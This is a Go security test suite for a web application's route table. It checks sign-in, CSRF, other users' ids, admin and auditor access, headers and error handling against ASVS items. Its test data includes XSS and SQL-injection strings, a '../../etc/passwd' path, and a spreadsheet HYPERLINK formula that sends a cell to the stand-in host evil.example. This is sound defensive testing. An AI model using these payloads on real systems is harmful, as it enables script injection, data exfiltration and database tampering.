package web_test

// The route-table crawl: every route the server registers is requested without a session,
// without a CSRF token, with another user's ids, as a non-admin and as an auditor. A route
// added later without its protection fails here, not in production.

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/uuid"
)

// publicRoutes may be used without signing in. Every other route answers 401 (API), 404
// (admin) or sends the browser to the login page. HEAD follows GET.
var publicRoutes = map[string]bool{
	"GET /healthz":                 true,
	"GET /readyz":                  true,
	"GET /static/:version/:name":   true,
	"GET /register":                true,
	"POST /register":               true,
	"GET /login":                   true,
	"POST /login":                  true,
	"POST /logout":                 true,
	"GET /login/two-factor":        true,
	"POST /login/two-factor":       true,
	"GET /password-reset":          true,
	"POST /password-reset":         true,
	"GET /password-reset/confirm":  true,
	"POST /password-reset/confirm": true,
}

// accountRoutes act on the signed-in user's own account (sign-in, tokens, two-factor,
// grants they give), never on books, so reading somebody else's books does not forbid them.
// The auditor crawl skips them; every other unsafe route must refuse an auditor.
var accountRoutes = regexp.MustCompile(`^(/api/v1)?/(logout|login|register|password-reset|` +
	`settings/(password|tokens|two-factor|registration)|tokens|grants|books/switch)(/|$)`)

// crawlRoute is one registered route. catchAll marks a route registered for every method
// (app.All), such as the admin area's 404 for paths it does not have.
type crawlRoute struct {
	method   string
	path     string
	catchAll bool
}

func (r crawlRoute) String() string {
	return r.method + " " + r.path
}

func (r crawlRoute) api() bool {
	return strings.HasPrefix(r.path, "/api/")
}

func (r crawlRoute) admin() bool {
	return r.path == "/admin" || strings.HasPrefix(r.path, "/admin/")
}

func (r crawlRoute) public() bool {
	method := r.method
	if method == http.MethodHead {
		method = http.MethodGet
	}
	return publicRoutes[method+" "+r.path]
}

func (r crawlRoute) safe() bool {
	return r.method == http.MethodGet || r.method == http.MethodHead ||
		r.method == http.MethodOptions
}

var routeParam = regexp.MustCompile(`:([A-Za-z0-9_]+)[?+*]?|\*|\+`)

// params returns the names of the route's parameters.
func (r crawlRoute) params() []string {
	var names []string
	for _, match := range routeParam.FindAllStringSubmatch(r.path, -1) {
		names = append(names, match[1])
	}
	return names
}

// hasRoute reports whether routes hold method path.
func hasRoute(routes []crawlRoute, method, path string) bool {
	return slices.ContainsFunc(routes, func(r crawlRoute) bool {
		return r.method == method && r.path == path
	})
}

// idParams reports whether the route takes an id in its path.
func (r crawlRoute) idParams() bool {
	return slices.ContainsFunc(r.params(), idParam)
}

func idParam(name string) bool {
	lower := strings.ToLower(name)
	return strings.HasSuffix(lower, "id")
}

// url fills the route's parameters: ids with id, anything else with "x".
func (r crawlRoute) url(id string) string {
	return routeParam.ReplaceAllStringFunc(r.path, func(param string) string {
		name := strings.TrimLeft(strings.TrimRight(param, "?+*"), ":")
		if idParam(name) {
			return url.PathEscape(id)
		}
		return "x"
	})
}

// routesOf lists the server's routes, without the global middleware.
func routesOf(ts *testServer) []crawlRoute {
	registered := ts.server.App().GetRoutes(true)
	// Only app.All registers TRACE, which no route of the app serves.
	catchAll := map[string]bool{}
	for _, route := range registered {
		if route.Method == http.MethodTrace {
			catchAll[route.Path] = true
		}
	}
	seen := map[crawlRoute]bool{}
	var routes []crawlRoute
	for _, route := range registered {
		r := crawlRoute{method: route.Method, path: route.Path, catchAll: catchAll[route.Path]}
		if seen[r] || r.method == http.MethodConnect || r.method == http.MethodTrace {
			continue
		}
		seen[r] = true
		routes = append(routes, r)
	}
	slices.SortFunc(routes, func(a, b crawlRoute) int {
		return strings.Compare(a.String(), b.String())
	})
	if len(routes) < 20 {
		ts.t.Fatalf("the route table lists only %d routes", len(routes))
	}
	return routes
}

// send requests route at path the way its clients do: API routes with a JSON body and the
// CSRF token as X-CSRF-Token, pages with a form carrying the token as _csrf. An empty token
// sends none.
func (cl *client) send(route crawlRoute, path, token string) response {
	cl.t.Helper()
	encoding := "application/x-www-form-urlencoded"
	if route.api() {
		encoding = "application/json"
	}
	return cl.sendAs(route, path, token, encoding)
}

// forgeableEncodings are the bodies a page on another site can make a browser send without
// asking (HTML forms), and JSON, which the API takes.
var forgeableEncodings = []string{"application/x-www-form-urlencoded", "multipart/form-data",
	"text/plain", "application/json"}

// clientEncodings are the bodies the app's own pages and scripts send.
var clientEncodings = []string{"application/x-www-form-urlencoded", "multipart/form-data",
	"application/json"}

// sendAs is send with a body of the given media type; the token goes in the header for the
// API and JSON, and in the form's first field otherwise.
func (cl *client) sendAs(route crawlRoute, path, token, encoding string) response {
	cl.t.Helper()
	if route.safe() || route.method == http.MethodDelete {
		request := httptest.NewRequest(route.method, path, nil)
		if token != "" && (route.api() || !route.safe()) {
			request.Header.Set("X-CSRF-Token", token)
		}
		return cl.do(request)
	}

	var body string
	contentType := encoding
	switch encoding {
	case "application/json":
		body = "{}"
	case "multipart/form-data":
		boundary := "csrfprobeboundary"
		contentType += "; boundary=" + boundary
		if token != "" && !route.api() {
			body = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n" +
				token + "\r\n"
		}
		body += "--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; " +
			"filename=\"probe.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4 probe\r\n--" +
			boundary + "--\r\n"
	default:
		form := url.Values{"name": {"probe"}}
		if token != "" && !route.api() {
			form.Set("_csrf", token)
		}
		body = form.Encode()
	}
	request := httptest.NewRequest(route.method, path, strings.NewReader(body))
	request.Header.Set("Content-Type", contentType)
	if token != "" && (route.api() || encoding == "application/json") {
		request.Header.Set("X-CSRF-Token", token)
	}
	return cl.do(request)
}

// idsOf returns ids that belong to user: the user's own id and, from every table keyed by
// the user (user_id or owner_id), up to two values of each other uuid column. Tables added
// later are found without changing this test.
func (ts *testServer) idsOf(user uuid.UUID) []string {
	ts.t.Helper()
	ctx := context.Background()
	rows, err := ts.pool.Query(ctx, `
		SELECT c.table_name, c.column_name, k.column_name
		FROM information_schema.columns c
		JOIN information_schema.columns k ON k.table_schema = c.table_schema
			AND k.table_name = c.table_name AND k.column_name IN ('user_id', 'owner_id')
			AND k.data_type = 'uuid'
		JOIN information_schema.tables t ON t.table_schema = c.table_schema
			AND t.table_name = c.table_name AND t.table_type = 'BASE TABLE'
		WHERE c.table_schema = current_schema() AND c.data_type = 'uuid'
			AND c.column_name NOT IN ('user_id', 'owner_id')
		ORDER BY 1, 2`)
	if err != nil {
		ts.t.Fatalf("list id columns: %v", err)
	}
	type column struct{ table, name, owner string }
	var columns []column
	for rows.Next() {
		var c column
		if err := rows.Scan(&c.table, &c.name, &c.owner); err != nil {
			ts.t.Fatalf("list id columns: %v", err)
		}
		columns = append(columns, c)
	}
	rows.Close()

	ids := []string{user.String()}
	for _, c := range columns {
		query := fmt.Sprintf(`SELECT DISTINCT %q::text FROM %q WHERE %q = $1 AND %q IS NOT NULL
			ORDER BY 1 LIMIT 2`, c.name, c.table, c.owner, c.name)
		rows, err := ts.pool.Query(ctx, query, user)
		if err != nil {
			ts.t.Fatalf("ids in %s.%s: %v", c.table, c.name, err)
		}
		for rows.Next() {
			var id string
			if err := rows.Scan(&id); err != nil {
				ts.t.Fatalf("ids in %s.%s: %v", c.table, c.name, err)
			}
			if !slices.Contains(ids, id) {
				ids = append(ids, id)
			}
		}
		rows.Close()
	}
	return ids
}

// Markers of ada's data: none may show in anything bob sees.
const (
	adaMarker      = "adamarker"
	xssPayload     = `<script>alert(1)</script>"'><img src=x onerror=alert(2)>`
	formulaPayload = `=HYPERLINK("http://evil.example/?"&A1,"x")`
)

// seedBooks gives the signed-in ada an account, transactions and an API token whose names
// carry adaMarker, the XSS payload and spreadsheet formulas, and returns ada as an API user.
func (ss *securityServer) seedBooks(email string) *apiUser {
	ss.t.Helper()
	ada := newAPIUser(ss.t, ss.testServer, email)
	ss.track(ada.browser)
	ss.secret(ada.token)
	ada.object(http.MethodPost, "/api/v1/accounts", map[string]any{
		"name": adaMarker + " " + xssPayload, "type": "asset", "currency": "EUR"},
		http.StatusCreated)
	for _, description := range []string{adaMarker + " " + xssPayload, formulaPayload,
		"@SUM(1+1)", "+1+1", "-2+3", "\t=1+1", `a";=1+1`} {
		ada.object(http.MethodPost, "/api/v1/transactions", map[string]any{
			"date": "2026-01-31", "description": description, "payee": adaMarker,
			"postings": []map[string]any{
				{"account": "Groceries", "amount": "12.50", "currency": "EUR"},
				{"account": "Checking", "amount": "-12.50", "currency": "EUR"}}},
			http.StatusCreated)
	}
	apiToken(ss.t, ada.browser, adaMarker+" token")
	return ada
}

// ASVS V8.2.1, V7.4.1: every route but the public ones needs a signed-in user. Pages send
// the browser to the login page (htmx gets 401 and HX-Redirect), the API answers 401,
// admin routes 404; nothing changes.
func TestSecurityRoutesRequireSignIn(t *testing.T) {
	t.Parallel()
	ss := newSecurityServer(t)
	ss.seedBooks("ada@example.org")
	anonymous := ss.client()
	anonymous.get("/login")
	htmx := ss.client()
	htmx.get("/login")
	htmx.header.Set("HX-Request", "true")
	before := ss.fingerprint("login_throttle")

	for _, route := range routesOf(ss.testServer) {
		if route.public() {
			continue
		}
		path := route.url(madeUpID)
		next := ""
		if route.method == http.MethodGet {
			next = path
		}
		t.Run(route.String(), func(t *testing.T) {
			// No cookies at all: pages refuse unsafe methods for want of a CSRF token.
			bare := ss.client().send(route, path, "")
			switch {
			case route.admin():
				wantStatus(t, bare, http.StatusNotFound)
			case route.api():
				wantStatus(t, bare, http.StatusUnauthorized)
			case route.safe():
				wantLoginRedirect(t, bare, next)
			case bare.status != http.StatusForbidden &&
				bare.status != http.StatusUnsupportedMediaType:
				t.Errorf("no cookies: status %d, want 403 (or 415)", bare.status)
			}

			// An anonymous session with a valid CSRF token gets past the CSRF check, in
			// whichever encoding the route takes.
			answered := false
			for _, encoding := range clientEncodings {
				session := anonymous.sendAs(route, path, anonymous.csrf, encoding)
				fragment := htmx.sendAs(route, path, htmx.csrf, encoding)
				if session.status == http.StatusUnsupportedMediaType {
					continue
				}
				answered = true
				switch {
				case route.admin():
					wantStatus(t, session, http.StatusNotFound)
				case route.api() && route.method == http.MethodHead:
					wantStatus(t, session, http.StatusUnauthorized)
				case route.api():
					wantAPIError(t, session, http.StatusUnauthorized, "unauthorized")
				default:
					wantLoginRedirect(t, session, next)
					wantStatus(t, fragment, http.StatusUnauthorized)
					if fragment.header.Get("HX-Redirect") != "/login" {
						t.Errorf("htmx: HX-Redirect %q, want /login",
							fragment.header.Get("HX-Redirect"))
					}
				}
				if route.safe() {
					break
				}
			}
			if !answered {
				t.Error("no encoding reached the sign-in check")
			}
		})
	}
	if changed := changedTables(before, ss.fingerprint("login_throttle")); len(changed) > 0 {
		t.Errorf("requests without a sign-in changed %v", changed)
	}
}

// wantLoginRedirect wants a 303 to the login page, with next=path unless path is empty.
func wantLoginRedirect(t *testing.T, got response, path string) {
	t.Helper()
	wantStatus(t, got, http.StatusSeeOther)
	want := "/login"
	if path != "" {
		want += "?next=" + url.QueryEscape(path)
	}
	if got.location() != want {
		t.Errorf("Location: got %q, want %q", got.location(), want)
	}
}

// ASVS V3.5.1, V3.5.3: every unsafe method of every route, sent by a signed-in user without
// a CSRF token or with another session's, in every encoding a page on another site could
// send, is refused (403, or 415 for a body the route does not take, but 403 in at least one
// encoding) and changes nothing. Admin routes are sent by an admin, so that the admin check
// passes first.
func TestSecurityRoutesRefuseForgedRequests(t *testing.T) {
	t.Parallel()
	ss := newSecurityServer(t)
	ada := ss.seedBooks("ada@example.org")
	admin := ss.signedInAdmin("root@example.org")
	other := ss.signedIn("bob@example.org")
	adaIDs := ss.idsOf(ss.userID("ada@example.org"))

	forgeries := []struct{ name, token string }{
		{"no token", ""}, {"another session's token", other.csrf},
		{"a made-up token", "made-up-token-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"},
	}
	for _, route := range routesOf(ss.testServer) {
		if route.safe() {
			continue
		}
		sender := ada.browser
		if route.admin() {
			sender = admin
		}
		t.Run(route.String(), func(t *testing.T) {
			before := ss.fingerprint()
			for _, id := range candidateIDs(route, adaIDs) {
				for _, forged := range forgeries {
					reached := false
					for _, encoding := range forgeableEncodings {
						got := sender.sendAs(route, route.url(id), forged.token, encoding)
						if got.status == http.StatusUnsupportedMediaType {
							continue
						}
						reached = true
						if route.catchAll {
							wantStatus(t, got, http.StatusNotFound) // there is nothing here
							continue
						}
						wantCSRFRefusal(t, route, got)
					}
					if !reached {
						t.Errorf("%s, id %s: no encoding reached the CSRF check", forged.name, id)
					}
				}
			}
			if changed := changedTables(before, ss.fingerprint()); len(changed) > 0 {
				t.Errorf("forged requests changed %v", changed)
			}
		})
	}
}

// candidateIDs are the ids to put in route's path: a made-up one when it takes none (the
// path is then the same for every id), else every id of the owner.
func candidateIDs(route crawlRoute, ids []string) []string {
	if !route.idParams() {
		return []string{madeUpID}
	}
	return ids
}

func wantCSRFRefusal(t *testing.T, route crawlRoute, got response) {
	t.Helper()
	if route.api() {
		wantAPIError(t, got, http.StatusForbidden, "csrf_failed")
		return
	}
	wantStatus(t, got, http.StatusForbidden)
	wantBodyContains(t, got, "did not come from this site")
}

// ASVS V8.2.2, V8.4.1: every route that takes an id answers bob, for each of ada's ids,
// exactly as for an id that does not exist: 404 for reads, and never success for writes.
// Nothing of ada's changes, and no page bob gets shows anything of ada's.
func TestSecurityRoutesHideOtherUsersIDs(t *testing.T) {
	t.Parallel()
	ss := newSecurityServer(t)
	ss.seedBooks("ada@example.org")
	bob := ss.signedIn("bob@example.org")
	adaIDs := ss.idsOf(ss.userID("ada@example.org"))
	if len(adaIDs) < 5 {
		t.Fatalf("ada's ids: got %v, want her user, accounts, transactions and token", adaIDs)
	}
	before := ss.fingerprint("login_throttle")

	for _, route := range routesOf(ss.testServer) {
		if !route.idParams() || route.public() || route.admin() {
			continue
		}
		t.Run(route.String(), func(t *testing.T) {
			madeUp := bob.send(route, route.url(madeUpID), bob.csrf)
			for _, id := range adaIDs {
				got := bob.send(route, route.url(id), bob.csrf)
				if route.safe() || route.method == http.MethodDelete {
					wantStatus(t, got, http.StatusNotFound)
				}
				if got.status < 400 {
					t.Errorf("ada's id %s: status %d", id, got.status)
				}
				if got.status != madeUp.status ||
					stripRequestID(got.body) != stripRequestID(madeUp.body) {
					t.Errorf("ada's id %s: %d %s\nmade-up id: %d %s", id, got.status, got.body,
						madeUp.status, madeUp.body)
				}
				if strings.Contains(got.body, adaMarker) {
					t.Errorf("ada's id %s: the answer shows ada's data", id)
				}
			}
		})
	}

	// The other routes, with ada's ids in every query parameter that could name something
	// (and her books), show nothing of hers either.
	adaID := ss.userID("ada@example.org").String()
	for _, route := range routesOf(ss.testServer) {
		if !route.safe() || route.idParams() || route.public() || route.admin() {
			continue
		}
		// The search words are a prefix of the marker: a page may echo them, but only ada's
		// data holds the whole marker.
		prefix := adaMarker[:len(adaMarker)-2]
		query := url.Values{"q": {prefix}, "search": {prefix}, "account": {adaIDs[1]},
			"book": {adaID}, "user_id": {adaID}, "owner": {adaID}}
		got := bob.send(route, route.url(madeUpID)+"?"+query.Encode(), "")
		if strings.Contains(got.body, adaMarker) {
			t.Errorf("%s: bob sees ada's data", route)
		}
	}
	if changed := changedTables(before, ss.fingerprint("login_throttle")); len(changed) > 0 {
		t.Errorf("bob's requests with ada's ids changed %v", changed)
	}
}

// ASVS V8.2.1, V13.4.5: the admin area does not exist for anybody but admins: every admin
// route, with every method, answers a signed-in user and a stranger with the very 404 of a
// page that does not exist.
func TestSecurityAdminRoutesHiddenFromOthers(t *testing.T) {
	t.Parallel()
	ss := newSecurityServer(t)
	bob := ss.signedIn("bob@example.org")
	stranger := ss.client()
	stranger.get("/login")
	nowhere := bob.get("/no-such-page")
	wantStatus(t, nowhere, http.StatusNotFound)

	routes := []crawlRoute{{method: http.MethodGet, path: "/admin"},
		{method: http.MethodPost, path: "/admin"}, {method: http.MethodGet, path: "/admin/users"},
		{method: http.MethodPost, path: "/admin/users/x/disable"},
		{method: http.MethodGet, path: "/api/v1/admin/users"},
		{method: http.MethodDelete, path: "/admin/anything"}}
	for _, route := range routesOf(ss.testServer) {
		if route.admin() || strings.HasPrefix(route.path, "/api/v1/admin") {
			routes = append(routes, route)
		}
	}
	before := ss.fingerprint("login_throttle")
	for _, route := range routes {
		t.Run(route.String(), func(t *testing.T) {
			for _, cl := range []*client{bob, stranger} {
				got := cl.send(route, route.url(madeUpID), cl.csrf)
				wantStatus(t, got, http.StatusNotFound)
				if !route.api() && route.method == http.MethodGet &&
					errorOf(got.body) != errorOf(nowhere.body) {
					t.Errorf("the 404 differs from a missing page's:\n%s", got.body)
				}
			}
		})
	}
	if changed := changedTables(before, ss.fingerprint("login_throttle")); len(changed) > 0 {
		t.Errorf("non-admin requests to the admin area changed %v", changed)
	}
}

// ASVS V8.2.1: an auditor reads an owner's books and changes nothing: every unsafe route but
// those about the auditor's own account answers 403 while the request reads the owner's
// books, named by ?book= or by the switch into them. The test runs once a grants route is
// registered; until then there is no auditor access to test.
func TestSecurityAuditorCannotChangeBooks(t *testing.T) {
	t.Parallel()
	ss := newSecurityServer(t)
	routes := routesOf(ss.testServer)
	if !slices.ContainsFunc(routes, func(r crawlRoute) bool {
		return strings.HasSuffix(r.path, "/grants")
	}) {
		t.Skip("no auditor access: no grants route is registered")
	}
	ss.seedBooks("ada@example.org")
	auditor := ss.signedIn("carol@example.org")
	adaID := ss.userID("ada@example.org")
	_, err := ss.pool.Exec(context.Background(), `INSERT INTO audit_grants
		(id, owner_id, auditor_id, created_at) VALUES ($1, $2, $3, now())`,
		uuid.New(), adaID, ss.userID("carol@example.org"))
	if err != nil {
		t.Fatalf("grant: %v", err)
	}
	adaIDs := ss.idsOf(adaID)
	switched := ss.client()
	wantStatus(t, switched.login("carol@example.org", testPassword), http.StatusSeeOther)
	hasSwitch := hasRoute(routes, http.MethodPost, "/books/switch")
	if hasSwitch {
		switched.get("/settings")
		wantStatus(t, switched.post("/books/switch", url.Values{"book": {adaID.String()}}),
			http.StatusSeeOther)
	}
	// The access log records the refused requests; nothing else may change.
	before := ss.fingerprint("audit_access_log", "login_throttle")

	for _, route := range routes {
		if route.safe() || route.public() || route.admin() || accountRoutes.MatchString(route.path) {
			continue
		}
		t.Run(route.String(), func(t *testing.T) {
			for _, id := range candidateIDs(route, adaIDs[:min(len(adaIDs), 4)]) {
				path := route.url(id)
				refused := false
				for _, encoding := range clientEncodings {
					got := auditor.sendAs(route, path+"?book="+adaID.String(), auditor.csrf,
						encoding)
					if got.status == http.StatusUnsupportedMediaType {
						continue
					}
					refused = true
					wantStatus(t, got, http.StatusForbidden)
					if hasSwitch && !route.api() {
						wantStatus(t, switched.sendAs(route, path, switched.csrf, encoding),
							http.StatusForbidden)
					}
				}
				if !refused {
					t.Error("no encoding reached the auditor check")
				}
			}
		})
	}
	if changed := changedTables(before, ss.fingerprint("audit_access_log",
		"login_throttle")); len(changed) > 0 {
		t.Errorf("the auditor changed %v", changed)
	}
}

// ASVS V3.5.3, V14.3.2, V3.4.2, V1.2.1, V3.2.2: every GET route, requested by the owner of
// the ids in its path, changes nothing, is never cached, grants no other origin, and shows
// the stored XSS payload only escaped, in pages and in htmx fragments.
func TestSecurityGetRoutesAreSafe(t *testing.T) {
	t.Parallel()
	ss := newSecurityServer(t)
	ada := ss.seedBooks("ada@example.org")
	adaIDs := ss.idsOf(ss.userID("ada@example.org"))
	before := ss.fingerprint()

	for _, route := range routesOf(ss.testServer) {
		if route.method != http.MethodGet || strings.HasPrefix(route.path, "/static/") {
			continue
		}
		t.Run(route.String(), func(t *testing.T) {
			for _, id := range candidateIDs(route, adaIDs) {
				for _, htmx := range []string{"", "true"} {
					request := httptest.NewRequest(http.MethodGet, route.url(id), nil)
					request.Header.Set("Origin", "https://evil.example")
					request.Header.Set("HX-Request", htmx)
					got := ada.browser.do(request)

					if got.status >= 500 {
						t.Fatalf("%s: status %d", route.url(id), got.status)
					}
					if cache := got.header.Get("Cache-Control"); cache != "no-store" {
						t.Errorf("%s: Cache-Control %q, want no-store", route.url(id), cache)
					}
					if origin := got.header.Get("Access-Control-Allow-Origin"); origin != "" {
						t.Errorf("%s: Access-Control-Allow-Origin %q", route.url(id), origin)
					}
					if strings.HasPrefix(got.header.Get("Content-Type"), "text/html") &&
						(strings.Contains(got.body, "<script>alert") ||
							strings.Contains(got.body, "<img src=x")) {
						t.Errorf("%s: the XSS payload is live:\n%s", route.url(id), got.body)
					}
				}
			}
		})
	}
	if changed := changedTables(before, ss.fingerprint()); len(changed) > 0 {
		t.Errorf("GET requests changed %v", changed)
	}
}

// ASVS V13.4.4, V4.1.4: TRACE is refused on every route.
func TestSecurityTraceRefusedEverywhere(t *testing.T) {
	t.Parallel()
	ss := newSecurityServer(t)
	browser := ss.signedIn("ada@example.org")

	for _, route := range routesOf(ss.testServer) {
		got := browser.do(httptest.NewRequest(http.MethodTrace, route.url(madeUpID), nil))
		if got.status != http.StatusMethodNotAllowed {
			t.Errorf("TRACE %s: status %d, want 405", route.url(madeUpID), got.status)
		}
	}
}

// ASVS V14.2.1: no API route accepts a token in the query string, not even a valid one.
func TestSecurityAPIRoutesRefuseQueryTokens(t *testing.T) {
	t.Parallel()
	ss := newSecurityServer(t)
	ada := newAPIUser(t, ss.testServer, "ada@example.org")
	ss.secret(ada.token)
	before := ss.fingerprint()

	for _, route := range routesOf(ss.testServer) {
		if !route.api() {
			continue
		}
		for _, name := range []string{"token", "access_token", "api_key"} {
			path := route.url(madeUpID) + "?" + name + "=" + ada.token
			got := ada.call(route.method, path, nil)
			if route.method != http.MethodHead {
				wantAPIError(t, got, http.StatusBadRequest, "token_in_query")
			} else if got.status != http.StatusBadRequest {
				t.Errorf("HEAD %s: status %d, want 400", path, got.status)
			}
		}
	}
	if changed := changedTables(before, ss.fingerprint()); len(changed) > 0 {
		t.Errorf("requests with a token in the URL changed %v", changed)
	}
}

// ASVS V16.5.1, V1.2.4, V2.2.1: hostile ids and query parameters on every route get a
// plain client error: no 500, no SQL, stack or file path, no reflected markup.
func TestSecurityHostileParametersGetPlainErrors(t *testing.T) {
	t.Parallel()
	ss := newSecurityServer(t)
	ada := newAPIUser(t, ss.testServer, "ada@example.org")
	ss.track(ada.browser)
	ss.secret(ada.token)
	hostileIDs := []string{`'"><script>alert(1)</script>`, "../../etc/passwd",
		"1 OR 1=1", "00000000-0000-0000-0000-000000000000", strings.Repeat("9", 400)}
	query := url.Values{"q": {"' OR 1=1--"}, "sort": {"name;DROP TABLE users"},
		"from": {"1e309"}, "to": {"NaN"}, "date": {"2026-02-30"}, "account": {"'"},
		"limit": {"-1"}, "offset": {"99999999999999999999"}, "before": {"<script>alert(1)"},
		"version": {"-1"}, "type": {"\x00"}, "currency": {"EURO"}}.Encode()
	leaks := regexp.MustCompile(`SQLSTATE|pq:|pgx|goroutine|\.go:\d|/home/|panic`)

	for _, route := range routesOf(ss.testServer) {
		if !route.safe() || route.method == http.MethodHead || route.public() {
			continue
		}
		ids := []string{madeUpID}
		if route.idParams() {
			ids = hostileIDs
		}
		for _, id := range ids {
			path := route.url(id) + "?" + query
			got := ada.browser.send(route, path, "")
			if got.status >= 500 {
				t.Errorf("%s: status %d\n%s", path, got.status, got.body)
			}
			if leak := leaks.FindString(got.body); leak != "" {
				t.Errorf("%s: the answer shows %q", path, leak)
			}
			if strings.HasPrefix(got.header.Get("Content-Type"), "text/html") &&
				strings.Contains(got.body, "<script>alert") {
				t.Errorf("%s: the page reflects markup from the URL", path)
			}
		}
	}
}
